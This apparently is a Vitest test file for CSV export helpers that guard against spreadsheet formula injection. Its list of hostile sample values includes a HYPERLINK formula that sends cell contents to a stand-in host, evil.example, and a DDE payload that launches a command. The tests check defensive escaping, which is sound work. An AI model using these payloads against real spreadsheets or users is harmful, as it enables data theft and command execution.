import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvRows } from "./csv-rows";
import { csvStream } from "./csv-stream";
import { neutralizeCell } from "./neutralize-cell";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  'plain, with "quotes", commas\nand a newline',
  "",
];

describe("neutralizeCell", () => {
  it("prefixes a quote to anything a spreadsheet would evaluate", () => {
    expect(neutralizeCell("=1+1")).toBe("'=1+1");
    expect(neutralizeCell("+1")).toBe("'+1");
    expect(neutralizeCell("-1")).toBe("'-1");
    expect(neutralizeCell("@x")).toBe("'@x");
    expect(neutralizeCell("\tx")).toBe("'\tx");
    expect(neutralizeCell("\rx")).toBe("'\rx");
  });
  it("leaves ordinary text, numbers and dates readable", () => {
    expect(neutralizeCell("Kim Lee")).toBe("Kim Lee");
    expect(neutralizeCell("a=b")).toBe("a=b");
    expect(neutralizeCell(42)).toBe("42");
    expect(neutralizeCell(null)).toBe("");
    expect(neutralizeCell(new Date(Date.UTC(2026, 0, 2, 3, 4, 5, 6)))).toBe("2026-01-02T03:04:05.006Z");
    expect(neutralizeCell({ a: 1 })).toBe('{"a":1}');
  });
  it("a negative number is text too (it could be the start of a formula)", () => {
    expect(neutralizeCell(-5)).toBe("'-5");
  });
});

describe("csvRows", () => {
  it("quotes every cell and round-trips hostile values with no cell starting a formula", () => {
    const text = csvRows([HOSTILE]);
    expect(text.startsWith('"')).toBe(true);
    const [row] = parse(text, { relax_quotes: false }) as string[][];
    expect(row).toHaveLength(HOSTILE.length);
    row!.forEach((cell, i) => {
      expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
      const original = HOSTILE[i]!;
      expect(cell === original || cell === `'${original}`).toBe(true);
    });
    expect(text.endsWith("\r\n")).toBe(true);
    // Every cell is quoted, empty ones included.
    expect(text).toContain('""\r\n');
  });
});

describe("csvStream", () => {
  it("streams a header then each batch, and counts the rows", async () => {
    let counted = -1;
    async function* batches() {
      yield [["1", "=a"]];
      yield [
        ["2", "b"],
        ["3", "c"],
      ];
    }
    const stream = csvStream({ header: ["n", "v"], batches: batches(), onDone: (n) => (counted = n) });
    const text = await new Response(stream).text();
    expect(parse(text.replace(/^\uFEFF/, ""))).toEqual([
      ["n", "v"],
      ["1", "'=a"],
      ["2", "b"],
      ["3", "c"],
    ]);
    expect(counted).toBe(3);
  });
});
